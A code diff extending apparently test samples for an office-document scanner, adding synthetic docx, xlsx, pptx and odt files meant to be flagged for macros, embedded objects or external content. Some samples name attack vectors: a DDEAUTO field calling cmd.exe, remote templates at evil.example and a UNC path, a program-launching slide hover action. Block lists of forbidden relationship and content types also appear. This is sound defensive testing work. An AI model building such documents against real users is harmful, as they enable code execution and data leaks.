@@ -49,11 +49,158 @@ def office(
     return packed({**parts, **(more or {})})
 
 
-def relations(*rows: tuple[str, str], mode: str = "") -> str:
+def relations(*rows: tuple[str, str], mode: str = "", space: str = _RELATIONS) -> str:
     made = "".join(
-        f'<Relationship Id="r" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/>' for kind, target in rows
+        f'<Relationship Id="r" Type="{space}/{kind}" Target="{target}"{mode}/>' for kind, target in rows
     )
     return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{made}</Relationships>'
+
+
+def related(extension: str, kind: str, target: str, content: bytes = b"x", **more: str) -> bytes:
+    """An office file whose main part has a relationship of this kind to a part of this name."""
+    folder, _, main = _MAIN[extension][0].partition("/")
+    parts = {f"{folder}/_rels/{main}.rels": relations((kind, target), **more), f"{folder}/{target}": content}
+    return office(extension, parts)
+
+
+def _declared(extension: str, kind: str) -> bytes:
+    """An office file with a picture whose content type says that it is something else."""
+    override = f'<Override PartName="/x/MEDIA/image1.png" ContentType="{kind}"/>'
+    return office(extension, {"X/media/Image1.png": b"x"}, types=override)
+
+
+def _prefixed(extension: str, kind: str) -> bytes:
+    """A relationship whose XML has a prefix, in a part whose name is in upper case."""
+    made = (
+        relations((kind, "a.png")).replace("<Relationship", "<p:Relationship").replace("xmlns=", "xmlns:p=")
+    )
+    folder, _, main = _MAIN[extension][0].partition("/")
+    made = made.replace("</Relationships", "</p:Relationships")
+    return office(extension, {f"{folder.upper()}/_RELS/{main.upper()}.RELS": made})
+
+
+def _renamed(content: bytes, names: Mapping[str, str]) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return packed({names.get(name, name): archive.read(name) for name in archive.namelist()})
+
+
+STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
+FORBIDDEN_RELATIONS = {
+    "vbaProject": "macros",
+    "wordVbaData": "macros",
+    "xlMacrosheet": "macros",
+    "dialogsheet": "macros",
+    "oleObject": "objects",
+    "aFChunk": "objects",
+    "control": "objects",
+    "activeXControlBinary": "objects",
+    "package": "objects",
+    "externalLink": "external",
+    "connections": "external",
+    "queryTable": "external",
+}
+FORBIDDEN_TYPES = {
+    "application/vnd.ms-office.VBAProject": "macros",
+    "application/vnd.ms-word.vbaData+xml": "macros",
+    "application/vnd.ms-excel.macrosheet+xml": "macros",
+    "application/vnd.ms-word.document.macroEnabled.main+xml": "macros",
+    f"{_OFFICE}.oleObject": "objects",
+    f"{_OFFICE}.spreadsheetml.connections+xml; charset=utf-8": "external",
+    "application/vnd.ms-office.activeX+xml": "objects",
+    f"{_OFFICE}.spreadsheetml.externalLink+xml": "external",
+    f"{_OFFICE}.spreadsheetml.connections+xml": "external",
+    f"{_OFFICE}.spreadsheetml.queryTable+xml": "external",
+}
+
+
+def _office_parts() -> Iterator[Sample]:
+    """What a part is, however it is named."""
+    for kind, reason in FORBIDDEN_RELATIONS.items():
+        for title, space in (("transitional", _RELATIONS), ("strict", STRICT), ("Microsoft", MICROSOFT)):
+            yield Sample(
+                f"docx: {title} relationship {kind}",
+                "a.docx",
+                lambda kind=kind, space=space: related("docx", kind, "media/image1.png", space=space),
+                reason,
+            )
+        yield Sample(
+            f"pptx: prefixed relationship {kind}", "a.pptx", lambda kind=kind: _prefixed("pptx", kind), reason
+        )
+    for kind, reason in FORBIDDEN_TYPES.items():
+        yield Sample(f"xlsx: type {kind}", "a.xlsx", lambda kind=kind: _declared("xlsx", kind), reason)
+    sheet = '<Override PartName="/word/media/image1.png" ContentType="{}"/>'.format(
+        f"{_OFFICE}.spreadsheetml.sheet"
+    )
+    yield Sample(
+        "docx: table of a chart named as a picture",
+        "a.docx",
+        lambda: office("docx", {"word/media/image1.png": office("xlsx")}, types=sheet),
+    )
+    yield Sample(
+        "docx: macros in a table of a chart named as a picture",
+        "a.docx",
+        lambda: office(
+            "docx", {"word/media/image1.png": related("xlsx", "vbaProject", "a.bin")}, types=sheet
+        ),
+        "macros",
+    )
+    yield Sample(
+        "docx: names in upper case",
+        "a.docx",
+        lambda: _renamed(
+            office("docx"), {"[Content_Types].xml": "[CONTENT_TYPES].XML", "_rels/.rels": "_RELS/.RELS"}
+        ),
+    )
+    yield Sample(
+        "docx: names that differ in their case",
+        "a.docx",
+        lambda: office("docx", {"Word/Document.xml": "<a/>"}),
+        "damaged",
+    )
+    yield Sample(
+        "docx: a picture named like macros",
+        "a.docx",
+        lambda: office("docx", {"word/media/vbaProject.bin": b"x"}),
+    )
+    yield Sample(
+        "docx: template from elsewhere without a mode",
+        "a.docx",
+        lambda: office(
+            "docx", {"word/_rels/a.xml.rels": relations(("attachedTemplate", "https://evil.example/a.dotm"))}
+        ),
+        "external",
+    )
+    yield Sample(
+        "docx: strict template of a server",
+        "a.docx",
+        lambda: office(
+            "docx",
+            {
+                "word/_rels/a.xml.rels": relations(
+                    ("attachedTemplate", "\\\\server\\a.dotm"), mode=' TargetMode="External"', space=STRICT
+                )
+            },
+        ),
+        "external",
+    )
+    fields = '<Override PartName="/glossary/a.xml" ContentType="{}"/>'.format(
+        f"{_OFFICE}.wordprocessingml.document.glossary+xml"
+    )
+    dde = _field(" DDEAUTO c:\\\\cmd.exe ")["word/document.xml"].replace("w:", "x:").replace(":w=", ":x=")
+    yield Sample(
+        "docx: DDE in a part of another name",
+        "a.docx",
+        lambda: office("docx", {"glossary/a.xml": dde}, types=fields),
+        "external",
+    )
+    action = '<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="ppaction://program"/></p:sld>'
+    yield Sample(
+        "pptx: starts a program when pointed at",
+        "a.pptx",
+        lambda: office("pptx", {"ppt/presentation.xml": action}),
+        "external",
+    )
 
 
 def _outside(kind: str, target: str) -> dict[str, str]:
@@ -103,7 +250,7 @@ def samples() -> Iterator[Sample]:
         yield Sample(
             f"{extension}: with macros",
             f"a.{extension}",
-            lambda e=extension: office(e, {f"{_MAIN[e][0][:2]}/vbaProject.bin": b"x"}),
+            lambda e=extension: related(e, "vbaProject", "vbaProject.bin"),
             "macros",
         )
         yield Sample(
@@ -128,13 +275,13 @@ def samples() -> Iterator[Sample]:
         yield Sample(
             f"{extension}: object of another program",
             f"a.{extension}",
-            lambda e=extension: office(e, {"x/embeddings/oleObject1.bin": b"x"}),
+            lambda e=extension: related(e, "oleObject", "embeddings/oleObject1.bin"),
             "objects",
         )
         yield Sample(
             f"{extension}: ActiveX",
             f"a.{extension}",
-            lambda e=extension: office(e, {"x/activeX/activeX1.xml": "<a/>"}),
+            lambda e=extension: related(e, "control", "activeX/activeX1.xml"),
             "objects",
         )
         yield Sample(
@@ -157,7 +304,7 @@ def samples() -> Iterator[Sample]:
     yield Sample(
         "docx: with a chart's table",
         "a.docx",
-        lambda: office("docx", {"word/embeddings/table.xlsx": office("xlsx")}),
+        lambda: related("docx", "package", "embeddings/table.xlsx", office("xlsx")),
     )
     yield Sample(
         "docx: with a link",
@@ -170,13 +317,13 @@ def samples() -> Iterator[Sample]:
     yield Sample(
         "docx: macros in a chart's table",
         "a.docx",
-        lambda: office("docx", {"word/embeddings/t.xlsx": office("xlsx", {"xl/vbaProject.bin": b""})}),
+        lambda: related("docx", "package", "t.xlsx", related("xlsx", "vbaProject", "vbaProject.bin")),
         "macros",
     )
     yield Sample(
         "docx: file of another program inside",
         "a.docx",
-        lambda: office("docx", {"word/embeddings/a.exe": b"MZ"}),
+        lambda: related("docx", "package", "embeddings/a.exe", b"MZ"),
         "objects",
     )
     yield Sample(
@@ -243,21 +390,25 @@ def samples() -> Iterator[Sample]:
     yield Sample(
         "xlsx: other workbook",
         "a.xlsx",
-        lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"}),
+        lambda: related("xlsx", "externalLink", "externalLinks/externalLink1.xml", b"<a/>"),
         "external",
     )
     yield Sample(
         "xlsx: query of a web page",
         "a.xlsx",
-        lambda: office("xlsx", {"xl/connections.xml": "<a/>"}),
+        lambda: related("xlsx", "connections", "connections.xml", b"<a/>"),
         "external",
     )
     yield Sample(
-        "xlsx: old macros", "a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"
+        "xlsx: old macros",
+        "a.xlsx",
+        lambda: related("xlsx", "xlMacrosheet", "macrosheets/sheet1.xml", b"<a/>"),
+        "macros",
     )
     yield Sample(
         "xlsx: media bomb", "a.xlsx", lambda: office("xlsx", {"xl/media/a.bmp": bytes(120_000_000)}), "bomb"
     )
+    yield from _office_parts()
     yield Sample("odt: good", "a.odt", document)
     yield Sample("ods: good", "a.ods", lambda: document(kind="spreadsheet"))
     yield Sample(
@@ -275,6 +426,20 @@ def samples() -> Iterator[Sample]:
         "odt: picture from elsewhere",
         "a.odt",
         lambda: document(content='<draw:image xlink:href="https://x.vn/a.png"/>'),
+        "external",
+    )
+    yield Sample(
+        "odt: event with another prefix",
+        "a.odt",
+        lambda: document(content='<z:event-listener xmlns:z="s" z:event-name="on"/>'),
+        "macros",
+    )
+    yield Sample(
+        "odt: picture from elsewhere in a document inside",
+        "a.odt",
+        lambda: document(
+            {"Object 1/content.xml": '<d:image xmlns:d="d" xmlns:l="x" l:href="//evil.example/a.png"/>'}
+        ),
         "external",
     )
     yield Sample("odt: object", "a.odt", lambda: document(content="<draw:object-ole/>"), "objects")
